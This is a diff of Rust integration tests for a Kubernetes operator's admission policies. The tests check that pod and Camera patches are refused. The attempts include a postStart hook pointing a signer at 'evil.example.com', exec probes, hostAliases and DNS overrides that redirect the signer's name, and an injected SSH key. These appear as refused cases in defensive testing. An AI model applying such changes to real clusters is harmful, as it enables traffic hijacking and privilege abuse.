@@ -168,6 +168,7 @@ async fn pod(moorline: &Moorline, tenant: &Tenant<'_>, role: &str) -> Value {
         },
         "spec": {
             "serviceAccountName": format!("moorline-{role}"), "automountServiceAccountToken": false,
+            "priorityClassName": class["spec"]["priorityClass"],
             "securityContext": {"runAsNonRoot": true, "runAsUser": 65532, "seccompProfile": {"type": "RuntimeDefault"}},
             "containers": [{
                 "name": role, "image": class["spec"]["image"],
@@ -177,6 +178,8 @@ async fn pod(moorline: &Moorline, tenant: &Tenant<'_>, role: &str) -> Value {
                     {"name": "MOORLINE_WORKLOAD__POD_UID", "valueFrom": {"fieldRef": {"fieldPath": "metadata.uid"}}},
                 ],
                 "resources": {"limits": {"memory": "48Mi"}, "requests": {"memory": "48Mi", "cpu": "10m"}},
+                "startupProbe": {"httpGet": {"path": "/healthz", "port": 9464}, "periodSeconds": 1},
+                "readinessProbe": {"httpGet": {"path": "/readyz", "port": 9464}, "periodSeconds": 5},
                 "securityContext": {"allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]}},
             }],
             "volumes": volumes,
@@ -268,6 +271,71 @@ const ATTEMPTS: &[Attempt] = &[
         role: "relay",
         change: |pod| pod["spec"]["serviceAccountName"] = "moorline-archiver".into(),
         why: "that role's account",
+    },
+    Attempt {
+        what: "a hook that runs our program with other words",
+        role: "archiver",
+        change: |pod| {
+            let command = json!({"exec": {"command": ["moorline", "archive", "--signer", "evil.example.com:8444"]}});
+            pod["spec"]["containers"][0]["lifecycle"] = json!({"postStart": command});
+        },
+        why: "no hooks",
+    },
+    Attempt {
+        what: "a probe that does",
+        role: "archiver",
+        change: |pod| {
+            let command = json!({"exec": {"command": ["moorline", "proxy"]}, "periodSeconds": 10});
+            pod["spec"]["containers"][0]["livenessProbe"] = command;
+        },
+        why: "no probes but by HTTP",
+    },
+    Attempt {
+        what: "a probe of another kind",
+        role: "relay",
+        change: |pod| {
+            // Another host is refused by PodSecurity already, where it is new enough.
+            let probe = json!({"tcpSocket": {"port": 80}});
+            pod["spec"]["containers"][0]["readinessProbe"] = probe;
+        },
+        why: "no probes but by HTTP",
+    },
+    Attempt {
+        what: "a terminal",
+        role: "relay",
+        change: |pod| pod["spec"]["containers"][0]["stdin"] = true.into(),
+        why: "no terminal",
+    },
+    Attempt {
+        what: "a node of its choice",
+        role: "relay",
+        change: |pod| pod["spec"]["nodeName"] = "n1".into(),
+        why: "names no node",
+    },
+    Attempt {
+        what: "a pod that puts others out",
+        role: "relay",
+        change: |pod| pod["spec"]["priorityClassName"] = "system-cluster-critical".into(),
+        why: "the policy knows moorline-workloads",
+    },
+    Attempt {
+        what: "another address for the signer's name",
+        role: "archiver",
+        change: |pod| {
+            let alias =
+                json!({"ip": "10.0.0.1", "hostnames": ["moorline-signer.moorline-system.svc"]});
+            pod["spec"]["hostAliases"] = json!([alias]);
+        },
+        why: "asks the cluster for names",
+    },
+    Attempt {
+        what: "names of another server",
+        role: "archiver",
+        change: |pod| {
+            pod["spec"]["dnsPolicy"] = "None".into();
+            pod["spec"]["dnsConfig"] = json!({"nameservers": ["10.0.0.1"]});
+        },
+        why: "asks the cluster for names",
     },
     Attempt {
         what: "a pod of nobody's",
@@ -401,7 +469,6 @@ async fn a_camera_is_erased_by_its_people_and_let_go_under_lowered_bounds() {
     };
     let erase = r#"{"spec":{"onDelete":"erase"}}"#;
     let title = r#"{"spec":{"title":"Yard"}}"#;
-    let annotation = r#"{"metadata":{"annotations":{"tried":"1"}}}"#;
     if moorline
         .system
         .get(&["deployment", "moorline-frontdoor"])
@@ -415,13 +482,6 @@ async fn a_camera_is_erased_by_its_people_and_let_go_under_lowered_bounds() {
         );
         assert_eq!(patch("frontdoor", title).await, Ok(()));
     }
-    let other = r#"{"spec":{"title":"Gate"}}"#;
-    refused("mon", patch("mon", other).await, "change no spec");
-    refused(
-        "the sweeper",
-        patch("sweeper", other).await,
-        "change no spec",
-    );
     // The bounds are lowered below what the camera has: its finalizers can still be written, another retention cannot.
     let lower = [
         "annotate",
@@ -432,7 +492,8 @@ async fn a_camera_is_erased_by_its_people_and_let_go_under_lowered_bounds() {
         "moorline.dev/classes=small",
     ];
     moorline.cluster().kubectl(&lower).await.unwrap();
-    assert_eq!(patch("mon", annotation).await, Ok(()));
+    let finalizer = r#"{"metadata":{"finalizers":[]}}"#;
+    assert_eq!(patch("mon", finalizer).await, Ok(()));
     let longer = tenant
         .space
         .try_kubectl(&[
@@ -453,6 +514,85 @@ async fn a_camera_is_erased_by_its_people_and_let_go_under_lowered_bounds() {
         .unwrap();
 }
 
+/// S18: mon, which the Internet reaches, and the sweeper may patch Cameras, and of each the one finalizer that is theirs.
+#[tokio::test(flavor = "multi_thread")]
+async fn mon_and_the_sweeper_come_by_their_own_finalizer_of_a_camera() {
+    let Some(moorline) = Moorline::installed().await else {
+        return;
+    };
+    let tenant = moorline.tenant("finalizers").await;
+    let (archive, recordings) = ("moorline.dev/archive", "moorline.dev/recordings");
+    // With the mark that the janitor would make, so that it makes none meanwhile.
+    let camera = json!({
+        "apiVersion": "moorline.dev/v1alpha1", "kind": "Camera",
+        "metadata": {"name": "yard", "labels": {"site": "a"}, "finalizers": [archive]}, "spec": {},
+    });
+    tenant.space.apply(&camera).await.unwrap();
+    let patch = async |account: &str, patch: &Value| {
+        let account = format!("{SYSTEM}:moorline-{account}");
+        let patch = patch.to_string();
+        let words = [
+            "patch",
+            "camera",
+            "yard",
+            "-n",
+            tenant.space.name(),
+            "--type=merge",
+            "--dry-run=server",
+            "-p",
+            &patch,
+        ];
+        kubectl_as(&moorline, &account, &words).await
+    };
+    let finalizers = |names: &[&str]| json!({"metadata": {"finalizers": names}});
+    let key =
+        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHtSwcjEgyQ6LUwxeGVQbPqjkYhPKxMkqzhJvU8cDhqT evil";
+    let owner = json!({"apiVersion": "v1", "kind": "ConfigMap", "name": "none", "uid": "00000000-0000-4000-8000-000000000000"});
+    for (account, own, wanted, unwanted) in [
+        (
+            "mon",
+            archive,
+            finalizers(&[]),
+            finalizers(&[archive, recordings]),
+        ),
+        (
+            "sweeper",
+            recordings,
+            finalizers(&[archive, recordings]),
+            finalizers(&[]),
+        ),
+    ] {
+        let own = format!("this account changes {own} alone");
+        for (what, change, why) in [
+            ("a key", json!({"spec": {"keys": [key]}}), "change no spec"),
+            (
+                "an owner that is not there",
+                json!({"metadata": {"ownerReferences": [owner]}}),
+                "give a Camera no owner",
+            ),
+            (
+                "a label",
+                json!({"metadata": {"labels": {"site": "b"}}}),
+                "neither labels nor annotations",
+            ),
+            (
+                "an annotation",
+                json!({"metadata": {"annotations": {"tried": "1"}}}),
+                "neither labels nor annotations",
+            ),
+            ("the other's finalizer", unwanted, &*own),
+            (
+                "a finalizer of nobody's",
+                finalizers(&[archive, "example.com/other"]),
+                &*own,
+            ),
+        ] {
+            refused(what, patch(account, &change).await, why);
+        }
+        assert_eq!(patch(account, &wanted).await, Ok(()), "{account}");
+    }
+}
+
 /// A tenant's people write their cameras' passwords, and store nothing else in Secrets.
 #[tokio::test(flavor = "multi_thread")]
 async fn a_tenants_people_write_passwords_alone() {
@@ -460,43 +600,50 @@ async fn a_tenants_people_write_passwords_alone() {
         return;
     };
     let tenant = moorline.tenant("passwords").await;
+    let own = tenant.space.name();
+    // As the chart binds `helm test`.
+    let test = json!({"kind": "ServiceAccount", "name": "moorline-test", "namespace": SYSTEM});
+    let bound = binding(own, "moorline-tenant", test);
+    moorline.cluster().apply(&bound).await.unwrap();
     let group = format!("--as-group=moorline:tenant:{}", tenant.name);
-    let create = async |name: &str, kind: &str, value: &str| {
-        let literal = format!("--from-literal=password={value}");
-        let kind = format!("--type={kind}");
-        let words = [
-            "--as=anna",
-            &*group,
-            "--as-group=system:authenticated",
-            "-n",
-            tenant.space.name(),
-            "create",
-            "secret",
-            "generic",
-            name,
-            &*kind,
-            &*literal,
-            "--dry-run=server",
-        ];
-        let output = moorline.cluster().try_kubectl(&words).await.unwrap();
-        let said = String::from_utf8_lossy(&output.stderr).into_owned();
-        output.status.success().then_some(()).ok_or(said)
-    };
-    assert_eq!(create("yard-rtsp", "Opaque", "secret").await, Ok(()));
-    refused(
-        "another name",
-        create("other", "Opaque", "x").await,
-        "alone",
-    );
-    refused(
-        "another type",
-        create("yard-rtsp", "example.com/other", "x").await,
-        "alone",
-    );
-    let large = "a".repeat(5000);
-    refused(
-        "a large one",
-        create("yard-rtsp", "Opaque", &large).await,
-        "at most",
-    );
+    let test = format!("--as=system:serviceaccount:{SYSTEM}:moorline-test");
+    for who in [&["--as=anna", &*group][..], &[&*test]] {
+        let create = async |name: &str, kind: &str, value: &str| {
+            let literal = format!("--from-literal=password={value}");
+            let kind = format!("--type={kind}");
+            let words = [
+                "--as-group=system:authenticated",
+                "-n",
+                own,
+                "create",
+                "secret",
+                "generic",
+                name,
+                &*kind,
+                &*literal,
+                "--dry-run=server",
+            ];
+            let words = [who, &words[..]].concat();
+            let output = moorline.cluster().try_kubectl(&words).await.unwrap();
+            let said = String::from_utf8_lossy(&output.stderr).into_owned();
+            output.status.success().then_some(()).ok_or(said)
+        };
+        assert_eq!(create("yard-rtsp", "Opaque", "secret").await, Ok(()));
+        refused(
+            "another name",
+            create("other", "Opaque", "x").await,
+            "alone",
+        );
+        refused(
+            "another type",
+            create("yard-rtsp", "example.com/other", "x").await,
+            "alone",
+        );
+        let large = "a".repeat(5000);
+        refused(
+            "a large one",
+            create("yard-rtsp", "Opaque", &large).await,
+            "at most",
+        );
+    }
 }
